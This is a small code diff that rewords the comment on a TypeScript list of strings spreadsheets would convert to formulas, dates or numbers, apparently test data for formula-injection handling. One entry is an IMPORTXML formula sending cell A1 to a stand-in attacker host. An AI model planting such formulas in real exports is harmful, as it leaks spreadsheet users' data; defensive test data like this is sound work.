@@ -1,4 +1,4 @@
-/** Texts that a spreadsheet takes for something else, a formula, a date, a number, unless it is told that they are text. */
+/** Texts that a spreadsheet converts to a formula, a date or a number unless they are marked as text. */
 export const SHAPE_SHIFTING_TEXTS: readonly string[] = [
   '=IMPORTXML("https://evil.example/?"&A1,"//a")',
   "=1+1",
